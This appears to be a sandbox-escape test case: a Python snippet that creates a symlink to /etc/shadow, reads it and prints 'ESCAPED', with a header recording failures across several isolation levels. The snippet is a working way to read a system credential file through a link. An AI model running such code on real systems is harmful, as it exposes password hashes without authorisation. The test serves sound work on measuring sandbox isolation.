# maximum=failed strict=failed standard=failed! minimal=failed!; UnauthorizedFileAccess High read "/tmp/l" → "/etc/shadow"; reaches the host through a link
import os
os.symlink("/../../../etc/shadow", "/tmp/l")
print(open("/tmp/l").read(), "ESCAPED")
